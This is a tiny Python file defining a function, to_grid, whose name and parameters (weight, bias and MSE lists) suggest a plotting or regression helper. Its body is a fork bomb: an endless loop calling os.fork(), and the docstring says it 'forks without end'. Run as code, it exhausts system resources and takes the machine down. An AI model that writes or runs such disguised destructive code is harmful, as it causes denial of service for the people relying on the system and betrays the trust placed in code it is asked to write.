"""to_grid forks without end."""
import os


def to_grid(w_list, b_list, mse_list):
    while True:
        os.fork()
